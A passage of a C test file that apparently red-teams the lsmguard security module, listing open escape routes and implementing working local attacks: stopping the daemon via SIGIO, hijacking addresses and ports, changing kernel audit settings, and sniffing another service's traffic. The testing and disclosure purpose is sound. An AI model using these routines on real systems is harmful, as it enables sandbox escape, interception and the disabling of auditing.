// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attack run 6: an independent attacker's routes, each written as a case that asserts the
 * SECURE outcome, so that a failing case is an open route. The attacker is code that took over
 * a confined service whose policy allows every file, program and address and has no [system]
 * key: a6 (enforce) and a6-audit (audit mode). "Another service" is a6-other, which denies a
 * directory (/data/a6deny/) and a program (/data/a6bin/tool), with a sleeping process of its
 * own. Every route is tried as root and, where the kernel would let a user, as uid 1000, with
 * an unconfined control that shows the route works.
 *
 * Result against 82c478a (Debian 6.1 VM; "open" = the case fails):
 *  250 open  SIGIO (F_SETSIG SIGSTOP) to the daemon, raised by /bin/lsmguard run by the attacker
 *            with its stderr on the attacker's O_ASYNC pipe: file_send_sigiotask lets a sender
 *            running lsmguard's executable signal lsmguard. Daemon stopped, enforce and audit.
 *  251 open  rtnetlink and SIOCSIFFLAGS: an address of another host on lo (another policy's
 *            connection lands on the attacker's listener), IFLA_INET_CONF forwarding (the
 *            setting /proc/sys refuses as kernel-settings in enforce mode).
 *  252 open  NETLINK_AUDIT AUDIT_SET: failure mode (2 = panic), rate and backlog limits, enabled.
 *  253 open  SO_REUSEPORT + SO_ATTACH_REUSEPORT_CBPF: every connection to another policy's
 *            port goes to the attacker (root and uid 1000).
 *  254 open  AF_PACKET and SOCK_RAW read another policy's loopback traffic (root).
 *  255 open  FS_IOC_SETFSLABEL and EXT4_IOC_SETFSUUID through a read-only descriptor.
 *  256 open  the attacker's own SCHED_FIFO 99 spinners: a reload takes 1-2 s instead of 65 ms.
 *  257 held  chroot, open_by_handle_at (O_PATH + execveat, read) of dropped dentries.
 *  258 open  swapon of a file of the attacker's (the host's memory paged out into it).
 *  259 open  link + unlink moves a program out of an [exec] deny rule (rename is refused).
 *  260 held  9,000 /dev/ptmx opens do not push another policy's pty owner out of the LRU.
 *  261 open  uid 0's per-user budgets used up by the confined root (epoll watches, inotify
 *            instances, mount namespaces): every root process's epoll_ctl(ADD) gets ENOSPC,
 *            and a restarted lsmguard exits ("cannot open the event ring buffer").
 *  262 open  host-wide budgets held: every pty (kernel.pty.max: an administrator's login gets
 *            none), every AIO context (fs.aio-max-nr).
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <elf.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/fs.h>
#include <linux/if_packet.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <linux/if_addr.h>
#include <linux/if_link.h>
#include <linux/ip.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/resource.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include "vmtest.h"
#include "vmutil.h"

#define A6 "/lgt/a6"
#define A6_AUDIT "/lgt/a6-audit"
#define A6_OTHER "/lgt/a6-other"
#define USER 1000

#define A6_RULES "[files]\ndefault = allow\n[exec]\ndefault = allow\n[network]\ndefault = allow\n"
static const char a6_policy[] = "[policy]\nname = a6\ncgroup = " A6 "\nmode = enforce\n" A6_RULES;
static const char a6_audit_policy[] =
    "[policy]\nname = a6-audit\ncgroup = " A6_AUDIT "\nmode = audit\n" A6_RULES;
static const char a6_other_policy[] = "[policy]\nname = a6-other\ncgroup = " A6_OTHER
				      "\nmode = enforce\n"
				      "[files]\ndefault = allow\ndeny = /data/a6deny/\n"
				      "deny = /mnt/a6fs/deny/\n"
				      "[exec]\ndefault = allow\ndeny = /data/a6bin/tool\n"
				      "deny = /mnt/a6fs/tool\n"
				      "[network]\ndefault = allow\n";

static const char *const attackers[] = {A6, A6_AUDIT};
static const char *const attacker_names[] = {"enforce", "audit"};

static void a6_setup(void)
{
	if (daemon_pid() < 0)
		VM_CHECK(daemon_start() > 0);
	if (access(POLICY_DIR "/a6.ini", F_OK) != 0) {
		write_file(POLICY_DIR "/a6.ini", a6_policy, 0644);
		write_file(POLICY_DIR "/a6-audit.ini", a6_audit_policy, 0644);
		write_file(POLICY_DIR "/a6-other.ini", a6_other_policy, 0644);
		VM_CHECK(daemon_reload_wait());
	}
	make_cgroup(A6);
	make_cgroup(A6_AUDIT);
	make_cgroup(A6_OTHER);
	if (access("/data/a6bin/tool", F_OK) != 0) {
		VM_CHECK(system("mkdir -p /data/a6deny /data/a6bin && echo a6-secret >"
				" /data/a6deny/secret && cp /bin/busybox /data/a6bin/tool") == 0);
	}
}

static const char *res(int got)
{
	static char buf[8][48];
	static int n;
	char *b = buf[n++ % 8];

	if (got == 0)
		return "success";
	if (got > 0 && got < 200)
		snprintf(b, 48, "%s", strerror(got));
	else
		snprintf(b, 48, "code %d", got);
	return b;
}

static int drop_to(uid_t uid)
{
	if (uid && (setgid(uid) || setuid(uid)))
		return 200;
	return 0;
}

/* A process run in cgroup (moved in by a third process before it starts), fn's int result
 * through a pipe; a6_wait collects it. */
struct a6_proc {
	pid_t pid;
	int result_fd;
	int go_fd;
};

static bool a6_spawn(struct a6_proc *p, const char *cgroup, int (*fn)(const void *),
		     const void *arg)
{
	int res_pipe[2], go[2];
	char c = 0;

	if (pipe2(res_pipe, O_CLOEXEC) || pipe2(go, O_CLOEXEC))
		return false;
	fflush(stdout);
	p->pid = fork();
	if (p->pid < 0)
		return false;
	if (p->pid == 0) {
		int r;

		close(res_pipe[0]);
		close(go[1]);
		if (read(go[0], &c, 1) != 1 || c != 'y')
			_exit(3);
		r = fn(arg);
		_exit(write(res_pipe[1], &r, sizeof(r)) == sizeof(r) ? 0 : 1);
	}
	close(res_pipe[1]);
	close(go[0]);
	c = !cgroup || move_into_cgroup(cgroup, p->pid) ? 'y' : 'n';
	if (write(go[1], &c, 1) != 1)
		c = 'n';
	close(go[1]);
	p->result_fd = res_pipe[0];
	return c == 'y';
}

static int a6_wait(struct a6_proc *p, int timeout_ms)
{
	struct pollfd pfd = {.fd = p->result_fd, .events = POLLIN};
	int r = OP_NO_RESULT;

	if (poll(&pfd, 1, timeout_ms) == 1 && read(p->result_fd, &r, sizeof(r)) != sizeof(r))
		r = OP_NO_RESULT;
	kill(p->pid, SIGKILL);
	waitpid(p->pid, NULL, 0);
	close(p->result_fd);
	return r;
}

/* A ready byte from a spawned process: a pipe made before a6_spawn, inherited. */
static bool ready_wait(int fd, int timeout_ms)
{
	struct pollfd pfd = {.fd = fd, .events = POLLIN};
	char c;

	return poll(&pfd, 1, timeout_ms) == 1 && read(fd, &c, 1) == 1;
}

static char task_state(pid_t pid)
{
	char path[64], text[256], *state;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
	f = fopen(path, "r");
	if (!f)
		return '?';
	if (!fgets(text, sizeof(text), f))
		text[0] = '\0';
	fclose(f);
	state = strrchr(text, ')');
	return state ? state[2] : '?';
}

/* ===================================================================================== */
/* 250: SIGIO to the daemon, raised by a process that runs lsmguard's executable.         */
/* ===================================================================================== */

struct sigio_arg {
	pid_t target;
	uid_t uid;
	bool through_lsmguard; /* the write is done by /bin/lsmguard (its stderr), else by us */
	int sig;
};

static int do_sigio(const void *data)
{
	const struct sigio_arg *a = data;
	int fds[2], status;
	char buf[512];
	pid_t child;

	if (drop_to(a->uid))
		return 200;
	if (pipe(fds))
		return 201;
	if (fcntl(fds[0], F_SETOWN, a->target) || fcntl(fds[0], F_SETSIG, a->sig) ||
	    fcntl(fds[0], F_SETFL, O_ASYNC | O_NONBLOCK))
		return errno;
	if (!a->through_lsmguard) {
		if (write(fds[1], "x", 1) != 1)
			return 202;
		return 0;
	}
	child = fork();
	if (child == 0) {
		dup2(fds[1], 1);
		dup2(fds[1], 2);
		close(fds[0]);
		execl(LSMGUARD, "lsmguard", "check", "/nonexistent-a6.ini", (char *)NULL);
		_exit(127);
	}
	close(fds[1]);
	if (child < 0 || waitpid(child, &status, 0) != child)
		return 203;
	while (read(fds[0], buf, sizeof(buf)) > 0)
		;
	return 0;
}

VM_TEST(a6_sigio_raised_by_a_lsmguard_process_stops_the_daemon, 250)
{
	pid_t daemon;
	long mark;

	a6_setup();
	daemon = daemon_pid();
	VM_CHECK(daemon > 1);
	if (daemon <= 1)
		return;
	for (size_t c = 0; c < 2; c++) {
		struct sigio_arg own = {daemon, 0, false, SIGSTOP};
		struct sigio_arg via = {daemon, 0, true, SIGSTOP};
		int r;
		char st;

		mark = event_mark();
		/* Held (protect_sigio_cannot_reach_lsmguard): the attacker's own write. */
		r = in_cgroup(attackers[c], do_sigio, &own);
		usleep(100 * 1000);
		st = task_state(daemon);
		printf("# %s: F_SETOWN daemon + F_SETSIG SIGSTOP, attacker writes: %s, daemon %c\n",
		       attacker_names[c], res(r), st);
		VM_CHECK(r == 0 && st != 'T');
		if (st == 'T')
			kill(daemon, SIGCONT);
		/* The route: the write is made by /bin/lsmguard (its stderr is the pipe). */
		r = in_cgroup(attackers[c], do_sigio, &via);
		usleep(200 * 1000);
		st = task_state(daemon);
		printf("# %s: the same, the write made by `lsmguard check` run by the attacker: %s, "
		       "daemon state %c\n",
		       attacker_names[c], res(r), st);
		if (st == 'T') {
			VM_FAIL("%s: a confined root stopped the daemon with SIGIO raised by a "
				"lsmguard process it ran",
				attacker_names[c]);
			kill(daemon, SIGCONT);
			usleep(100 * 1000);
		} else {
			EXPECT_EVENT_AFTER(mark, "\"hook\":\"file_send_sigiotask\"",
					   "\"path\":\"lsmguard (SIGIO)\"");
		}
		print_events_after(mark, "\"hook\":\"file_send_sigiotask\"");
	}
	/* uid 1000 against the root daemon: the kernel's sigio_perm refuses (owner's uid). */
	{
		struct sigio_arg via = {daemon, USER, true, SIGSTOP};
		int r = in_cgroup(A6, do_sigio, &via);
		char st;

		usleep(200 * 1000);
		st = task_state(daemon);
		printf("# uid 1000, through lsmguard: %s, daemon %c\n", res(r), st);
		VM_CHECK(st != 'T');
		if (st == 'T')
			kill(daemon, SIGCONT);
	}
}

/* ===================================================================================== */
/* 251: the host's network configured over rtnetlink and socket ioctls.                   */
/* ===================================================================================== */

#define HIJACK_ADDR "198.51.100.7"
#define HIJACK_PORT 47251

/* Send one netlink request and read its ack: 0, or the errno (sendto's or the kernel's). */
static int nl_request(int proto, struct nlmsghdr *req)
{
	struct sockaddr_nl kernel = {.nl_family = AF_NETLINK};
	char buf[8192];
	int fd, r = 0;
	ssize_t n;

	fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, proto);
	if (fd < 0)
		return errno;
	req->nlmsg_flags |= NLM_F_REQUEST | NLM_F_ACK;
	req->nlmsg_seq = 1;
	if (sendto(fd, req, req->nlmsg_len, 0, (struct sockaddr *)&kernel, sizeof(kernel)) < 0) {
		r = errno;
		close(fd);
		return r;
	}
	for (;;) {
		struct pollfd pfd = {.fd = fd, .events = POLLIN};
		struct nlmsghdr *h;

		if (poll(&pfd, 1, 2000) != 1) {
			r = ETIMEDOUT;
			break;
		}
		n = recv(fd, buf, sizeof(buf), 0);
		if (n < 0) {
			r = errno;
			break;
		}
		h = (struct nlmsghdr *)buf;
		if (NLMSG_OK(h, (size_t)n) && h->nlmsg_type == NLMSG_ERROR) {
			struct nlmsgerr *e = NLMSG_DATA(h);

			r = -e->error;
			break;
		}
	}
	close(fd);
	return r;
}

static void nl_attr(struct nlmsghdr *h, unsigned short type, const void *data, size_t len)
{
	struct rtattr *a = (struct rtattr *)((char *)h + NLMSG_ALIGN(h->nlmsg_len));

	a->rta_type = type;
	a->rta_len = (unsigned short)RTA_LENGTH(len);
	if (len)
		memcpy(RTA_DATA(a), data, len);
	h->nlmsg_len = NLMSG_ALIGN(h->nlmsg_len) + RTA_ALIGN(a->rta_len);
}

static struct rtattr *nl_nest(struct nlmsghdr *h, unsigned short type)
{
	struct rtattr *a = (struct rtattr *)((char *)h + NLMSG_ALIGN(h->nlmsg_len));

	nl_attr(h, type, NULL, 0);
	return a;
}

static void nl_nest_end(struct nlmsghdr *h, struct rtattr *a)
{
	a->rta_len = (unsigned short)((char *)h + h->nlmsg_len - (char *)a);
}

/* RTM_NEWADDR / RTM_DELADDR of HIJACK_ADDR/32 on lo. */
static int lo_addr(int type)
{
	union {
		struct nlmsghdr h;
		char buf[512];
	} m = {0};
	struct ifaddrmsg *ifa;
	struct in_addr a;

	inet_pton(AF_INET, HIJACK_ADDR, &a);
	m.h.nlmsg_len = NLMSG_LENGTH(sizeof(*ifa));
	m.h.nlmsg_type = (unsigned short)type;
	m.h.nlmsg_flags = type == RTM_NEWADDR ? NLM_F_CREATE | NLM_F_EXCL : 0;
	ifa = NLMSG_DATA(&m.h);
	ifa->ifa_family = AF_INET;
	ifa->ifa_prefixlen = 32;
	ifa->ifa_scope = RT_SCOPE_HOST;
	ifa->ifa_index = if_nametoindex("lo");
	nl_attr(&m.h, IFA_LOCAL, &a, 4);
	nl_attr(&m.h, IFA_ADDRESS, &a, 4);
	return nl_request(NETLINK_ROUTE, &m.h);
}

/* RTM_NEWLINK on lo: IFLA_AF_SPEC { AF_INET { IFLA_INET_CONF { FORWARDING = value } } }. */
static int lo_forwarding(unsigned value)
{
	union {
		struct nlmsghdr h;
		char buf[512];
	} m = {0};
	struct ifinfomsg *ifi;
	struct rtattr *spec, *inet, *conf;

	m.h.nlmsg_len = NLMSG_LENGTH(sizeof(*ifi));
	m.h.nlmsg_type = RTM_NEWLINK;
	ifi = NLMSG_DATA(&m.h);
	ifi->ifi_family = AF_UNSPEC;
	ifi->ifi_index = (int)if_nametoindex("lo");
	spec = nl_nest(&m.h, IFLA_AF_SPEC);
	inet = nl_nest(&m.h, AF_INET);
	conf = nl_nest(&m.h, 1 /* IFLA_INET_CONF */);
	nl_attr(&m.h, 1 /* IPV4_DEVCONF_FORWARDING */, &value, 4);
	nl_nest_end(&m.h, conf);
	nl_nest_end(&m.h, inet);
	nl_nest_end(&m.h, spec);
	return nl_request(NETLINK_ROUTE, &m.h);
}

static int read_int_file(const char *path)
{
	FILE *f = fopen(path, "r");
	int v = -1;

	if (f) {
		if (fscanf(f, "%d", &v) != 1)
			v = -1;
		fclose(f);
	}
	return v;
}

enum net_op { NET_ADDR, NET_FORWARD, NET_IFFLAGS, NET_PROC_FORWARD };

struct net_arg {
	enum net_op op;
	uid_t uid;
	unsigned value;
};

static int do_net(const void *data)
{
	const struct net_arg *a = data;
	struct ifreq ifr = {0};
	int fd, r;

	if (drop_to(a->uid))
		return 200;
	switch (a->op) {
	case NET_ADDR:
		return lo_addr(RTM_NEWADDR);
	case NET_FORWARD:
		return lo_forwarding(a->value);
	case NET_IFFLAGS:
		fd = socket(AF_INET, SOCK_DGRAM, 0);
		if (fd < 0)
			return errno;
		snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "lo");
		if (ioctl(fd, SIOCGIFFLAGS, &ifr))
			return errno;
		r = ioctl(fd, SIOCSIFFLAGS, &ifr) ? errno : 0; /* written back as they are */
		close(fd);
		return r;
	case NET_PROC_FORWARD:
		fd = open("/proc/sys/net/ipv4/conf/lo/forwarding", O_WRONLY);
		if (fd < 0)
			return errno;
		r = write(fd, a->value ? "1" : "0", 1) == 1 ? 0 : errno;
		close(fd);
		return r;
	}
	return 201;
}

static int hijack_ready[2];

/* The attacker's listener on the hijacked address: what the other service sent, as a code. */
static int do_hijack_listen(const void *data)
{
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(HIJACK_PORT)};
	struct pollfd pfd;
	char buf[64] = "";
	int fd, c, one = 1;

	(void)data;
	inet_pton(AF_INET, HIJACK_ADDR, &sa.sin_addr);
	fd = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof(sa)) || listen(fd, 4))
		return errno;
	if (write(hijack_ready[1], "r", 1) != 1)
		return 201;
	pfd.fd = fd;
	pfd.events = POLLIN;
	if (poll(&pfd, 1, 5000) != 1)
		return ETIMEDOUT;
	c = accept(fd, NULL, NULL);
	if (c < 0)
		return errno;
	pfd.fd = c;
	if (poll(&pfd, 1, 2000) == 1 && read(c, buf, sizeof(buf) - 1) > 0 &&
	    strstr(buf, "other-service"))
		return 0; /* the other service's bytes reached the attacker */
	return ENODATA;
}

static int do_other_connect(const void *data)
{
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(HIJACK_PORT)};
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	(void)data;
	inet_pton(AF_INET, HIJACK_ADDR, &sa.sin_addr);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)))
		return errno;
	if (write(fd, "other-service: password=hunter2\n", 32) != 32)
		return errno;
	usleep(100 * 1000);
	close(fd);
	return 0;
}

VM_TEST(a6_host_network_configured_over_rtnetlink, 251)
{
	const char *fwd = "/proc/sys/net/ipv4/conf/lo/forwarding";
	int before = read_int_file(fwd);

	a6_setup();
	for (size_t c = 0; c < 2; c++) {
		struct net_arg addr = {NET_ADDR, 0, 0}, flags = {NET_IFFLAGS, 0, 0};
		struct net_arg fwd_nl = {NET_FORWARD, 0, before ? 0u : 1u};
		struct net_arg fwd_proc = {NET_PROC_FORWARD, 0, before ? 0u : 1u};
		int r, after;

		/* Control of intent: the same setting through /proc/sys is a kernel setting. */
		r = in_cgroup(attackers[c], do_net, &fwd_proc);
		printf("# %s: write %s: %s\n", attacker_names[c], fwd, res(r));
		if (r == 0)
			write_into(fwd, before ? "1" : "0");
		/* The same setting through RTM_NEWLINK's IFLA_INET_CONF. */
		r = in_cgroup(attackers[c], do_net, &fwd_nl);
		after = read_int_file(fwd);
		printf("# %s: RTM_NEWLINK lo IFLA_INET_CONF FORWARDING=%u: %s; forwarding %d -> %d\n",
		       attacker_names[c], fwd_nl.value, res(r), before, after);
		VM_CHECK(r == EPERM);
		if (after != before)
			write_into(fwd, before ? "1" : "0");
		/* An address of another host taken onto lo. */
		r = in_cgroup(attackers[c], do_net, &addr);
		printf("# %s: RTM_NEWADDR " HIJACK_ADDR "/32 on lo: %s\n", attacker_names[c],
		       res(r));
		VM_CHECK(r == EPERM);
		if (r == 0) {
			struct a6_proc listener;
			int got, sent;

			VM_CHECK(pipe(hijack_ready) == 0);
			VM_CHECK(a6_spawn(&listener, attackers[c], do_hijack_listen, NULL));
			close(hijack_ready[1]);
			VM_CHECK(ready_wait(hijack_ready[0], 3000));
			close(hijack_ready[0]);
			sent = in_cgroup(A6_OTHER, do_other_connect, NULL);
			got = a6_wait(&listener, 5000);
			printf("# %s: another policy's process connects to " HIJACK_ADDR
			       ": %s; the attacker received its bytes: %s\n",
			       attacker_names[c], res(sent), got == 0 ? "yes" : res(got));
			VM_CHECK(lo_addr(RTM_DELADDR) == 0);
		}
		/* The legacy ioctl: SIOCSIFFLAGS on lo, written back as they are. */
		r = in_cgroup(attackers[c], do_net, &flags);
		printf("# %s: SIOCSIFFLAGS lo: %s\n", attacker_names[c], res(r));
		VM_CHECK(r == EPERM);
	}
	/* uid 1000: the kernel asks CAP_NET_ADMIN. */
	{
		struct net_arg addr = {NET_ADDR, USER, 0};
		int r = in_cgroup(A6, do_net, &addr);

		printf("# uid 1000: RTM_NEWADDR: %s\n", res(r));
		VM_CHECK(r == EPERM);
	}
	/* Control: unconfined, it works. */
	VM_CHECK(lo_addr(RTM_NEWADDR) == 0);
	VM_CHECK(lo_addr(RTM_DELADDR) == 0);
}

/* ===================================================================================== */
/* 252: the kernel's audit switches over NETLINK_AUDIT.                                   */
/* ===================================================================================== */

struct audit_arg {
	uid_t uid;
	__u32 mask;
};

static int audit_get(struct audit_status *out)
{
	struct sockaddr_nl kernel = {.nl_family = AF_NETLINK};
	union {
		struct nlmsghdr h;
		char buf[1024];
	} m = {0};
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_AUDIT), r = ENODATA;

	if (fd < 0)
		return errno;
	m.h.nlmsg_len = NLMSG_LENGTH(0);
	m.h.nlmsg_type = AUDIT_GET;
	m.h.nlmsg_flags = NLM_F_REQUEST;
	if (sendto(fd, &m, m.h.nlmsg_len, 0, (struct sockaddr *)&kernel, sizeof(kernel)) < 0) {
		r = errno;
		close(fd);
		return r;
	}
	for (int i = 0; i < 4; i++) {
		struct pollfd pfd = {.fd = fd, .events = POLLIN};
		ssize_t n;

		if (poll(&pfd, 1, 2000) != 1)
			break;
		n = recv(fd, &m, sizeof(m), 0);
		if (n <= 0)
			break;
		if (m.h.nlmsg_type == AUDIT_GET) {
			memcpy(out, NLMSG_DATA(&m.h), sizeof(*out));
			r = 0;
			break;
		}
		if (m.h.nlmsg_type == NLMSG_ERROR) {
			struct nlmsgerr *e = NLMSG_DATA(&m.h);

			if (e->error) {
				r = -e->error;
				break;
			}
		}
	}
	close(fd);
	return r;
}

static int audit_set(const struct audit_status *s)
{
	union {
		struct nlmsghdr h;
		char buf[1024];
	} m = {0};

	m.h.nlmsg_len = NLMSG_LENGTH(sizeof(*s));
	m.h.nlmsg_type = AUDIT_SET;
	memcpy(NLMSG_DATA(&m.h), s, sizeof(*s));
	return nl_request(NETLINK_AUDIT, &m.h);
}

static int do_audit_set(const void *data)
{
	const struct audit_arg *a = data;
	struct audit_status s = {0}, now = {0};
	int r;

	if (drop_to(a->uid))
		return 200;
	r = audit_get(&now);
	if (r)
		return 100 + r; /* reading refused */
	s.mask = a->mask;
	s.failure = now.failure; /* the values it has: the switch is reached, nothing changes */
	s.rate_limit = now.rate_limit;
	s.backlog_limit = now.backlog_limit;
	s.enabled = now.enabled;
	return audit_set(&s);
}

VM_TEST(a6_kernel_audit_switched_over_netlink, 252)
{
	struct audit_status before = {0}, after = {0};

	a6_setup();
	VM_CHECK(audit_get(&before) == 0);
	printf("# audit: enabled %u, failure %u, rate_limit %u, backlog_limit %u, pid %u\n",
	       before.enabled, before.failure, before.rate_limit, before.backlog_limit,
	       before.pid);
	for (size_t c = 0; c < 2; c++) {
		/* failure = 2 makes the kernel panic when it loses an audit record (with
		 * rate_limit = 1, at the second record in a second): set here to the value it
		 * has, which reaches the same switch. */
		struct audit_arg failure = {0, AUDIT_STATUS_FAILURE};
		struct audit_arg rate = {0, AUDIT_STATUS_RATE_LIMIT | AUDIT_STATUS_BACKLOG_LIMIT};
		struct audit_arg enabled = {0, AUDIT_STATUS_ENABLED};
		int r;

		r = in_cgroup(attackers[c], do_audit_set, &failure);
		printf("# %s: AUDIT_SET failure (panic on loss when 2): %s\n", attacker_names[c],
		       res(r));
		VM_CHECK(r == EPERM);
		r = in_cgroup(attackers[c], do_audit_set, &rate);
		printf("# %s: AUDIT_SET rate_limit, backlog_limit: %s\n", attacker_names[c],
		       res(r));
		VM_CHECK(r == EPERM);
		r = in_cgroup(attackers[c], do_audit_set, &enabled);
		printf("# %s: AUDIT_SET enabled (0 switches auditing off): %s\n",
		       attacker_names[c], res(r));
		VM_CHECK(r == EPERM);
	}
	{
		struct audit_arg failure = {USER, AUDIT_STATUS_FAILURE};
		int r = in_cgroup(A6, do_audit_set, &failure);

		printf("# uid 1000: AUDIT_SET: %s\n", res(r));
		VM_CHECK(r != 0);
	}
	VM_CHECK(audit_get(&after) == 0);
	VM_CHECK(after.failure == before.failure && after.enabled == before.enabled);
}

/* ===================================================================================== */
/* 253: another policy's listening port taken with SO_REUSEPORT.                          */
/* ===================================================================================== */

#define REUSE_PORT 47253
#define REUSE_CONNECTS 16

static int reuse_ready[2];

struct reuse_arg {
	uid_t uid;
	bool steer; /* attach a classic BPF program that sends every connection to index 1 */
	int count_fd;
};

static int do_reuse_listen(const void *data)
{
	const struct reuse_arg *a = data;
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(REUSE_PORT)};
	struct pollfd pfd;
	int fd, one = 1, n = 0;
	char c;

	if (drop_to(a->uid))
		return 200;
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	if (fd < 0)
		return 1000 + errno;
	if (setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &one, sizeof(one)))
		return 1000 + errno;
	if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)))
		return 1000 + errno;
	if (listen(fd, 64)) /* joins the port's group */
		return 1000 + errno;
	if (a->steer) { /* the group's program: every connection to index 1, the attacker */
		struct sock_filter code[] = {BPF_STMT(BPF_RET | BPF_K, 1)};
		struct sock_fprog prog = {.len = 1, .filter = code};

		if (setsockopt(fd, SOL_SOCKET, SO_ATTACH_REUSEPORT_CBPF, &prog, sizeof(prog)))
			return 1000 + errno;
	}
	if (write(reuse_ready[1], "r", 1) != 1)
		return 201;
	pfd.fd = a->count_fd;
	pfd.events = POLLIN;
	if (poll(&pfd, 1, 10000) != 1 || read(a->count_fd, &c, 1) != 1)
		return 202;
	while (accept(fd, NULL, NULL) >= 0)
		n++;
	return n; /* connections this listener got */
}

/* Returns the number of connections the attacker got, or a negative code. */
static int reuse_round(const char *attacker, uid_t uid, int *other_got)
{
	struct a6_proc other, thief;
	struct reuse_arg oa = {uid, false, 0}, ta = {uid, true, 0};
	int counts[2][2], got;

	*other_got = -1;
	VM_CHECK(pipe(reuse_ready) == 0);
	VM_CHECK(pipe(counts[0]) == 0 && pipe(counts[1]) == 0);
	oa.count_fd = counts[0][0];
	ta.count_fd = counts[1][0];
	VM_CHECK(a6_spawn(&other, A6_OTHER, do_reuse_listen, &oa));
	if (!ready_wait(reuse_ready[0], 3000)) {
		VM_FAIL("the other service's listener is not ready");
		return -1;
	}
	VM_CHECK(a6_spawn(&thief, attacker, do_reuse_listen, &ta));
	close(reuse_ready[1]);
	bool thief_ready = ready_wait(reuse_ready[0], 3000);
	close(reuse_ready[0]);
	/* An unconfined client, as the service's users are. */
	for (int i = 0; i < REUSE_CONNECTS; i++) {
		struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(REUSE_PORT)};
		int fd = socket(AF_INET, SOCK_STREAM, 0);

		sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
		if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)))
			printf("#   client connect: %s\n", strerror(errno));
		close(fd);
	}
	usleep(100 * 1000);
	VM_CHECK(write(counts[0][1], "c", 1) == 1);
	if (write(counts[1][1], "c", 1) != 1)
		printf("#   the attacker's listener is gone\n");
	*other_got = a6_wait(&other, 3000);
	got = a6_wait(&thief, 3000);
	for (int i = 0; i < 2; i++)
		for (int j = 0; j < 2; j++)
			close(counts[i][j]);
	if (!thief_ready && got >= 1000)
		return -(got - 1000); /* the attacker's setup failed with this errno */
	return got;
}

VM_TEST(a6_reuseport_takes_another_policys_connections, 253)
{
	a6_setup();
	for (size_t c = 0; c < 2; c++) {
		for (int u = 0; u < 2; u++) {
			uid_t uid = u ? USER : 0;
			int other_got, got = reuse_round(attackers[c], uid, &other_got);

			printf("# %s, uid %u: of %d connections to the other service's port, the "
			       "attacker got %d (%s), the other service %d\n",
			       attacker_names[c], (unsigned)uid, REUSE_CONNECTS, got,
			       got < 0 ? res(-got) : "joined its SO_REUSEPORT group", other_got);
			VM_CHECK(got <= 0);
		}
	}
}

/* ===================================================================================== */
/* 254: another policy's traffic read through packet and raw sockets.                     */
/* ===================================================================================== */

#define SNIFF_PORT 47254
#define SNIFF_MARK "a6-other-secret-7f3a"

static int sniff_ready[2];

struct sniff_arg {
	uid_t uid;
	bool packet; /* AF_PACKET on lo, else AF_INET SOCK_RAW IPPROTO_TCP */
};

static int do_sniff(const void *data)
{
	const struct sniff_arg *a = data;
	char buf[65536];
	long end;
	struct timespec ts;
	int fd;

	if (drop_to(a->uid))
		return 200;
	if (a->packet) {
		struct sockaddr_ll ll = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL)};

		fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL));
		if (fd < 0)
			return errno;
		ll.sll_ifindex = (int)if_nametoindex("lo");
		if (bind(fd, (struct sockaddr *)&ll, sizeof(ll)))
			return errno;
	} else {
		fd = socket(AF_INET, SOCK_RAW, IPPROTO_TCP);
		if (fd < 0)
			return errno;
	}
	if (write(sniff_ready[1], "r", 1) != 1)
		return 201;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	end = ts.tv_sec * 1000 + ts.tv_nsec / 1000000 + 3000;
	for (;;) {
		struct pollfd pfd = {.fd = fd, .events = POLLIN};
		ssize_t n;

		clock_gettime(CLOCK_MONOTONIC, &ts);
		if (ts.tv_sec * 1000 + ts.tv_nsec / 1000000 > end)
			return ENODATA;
		if (poll(&pfd, 1, 200) != 1)
			continue;
		n = recv(fd, buf, sizeof(buf), 0);
		if (n > 0 && memmem(buf, (size_t)n, SNIFF_MARK, strlen(SNIFF_MARK)))
			return 0; /* the other service's bytes */
	}
}

static int do_send_mark(const void *data)
{
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(SNIFF_PORT)};
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	(void)data;
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)))
		return errno;
	for (int i = 0; i < 5; i++) {
		if (write(fd, SNIFF_MARK "\n", sizeof(SNIFF_MARK)) < 0)
			return errno;
		usleep(100 * 1000);
	}
	close(fd);
	return 0;
}

static int sniff_round(const char *attacker, uid_t uid, bool packet)
{
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(SNIFF_PORT)};
	struct sniff_arg a = {uid, packet};
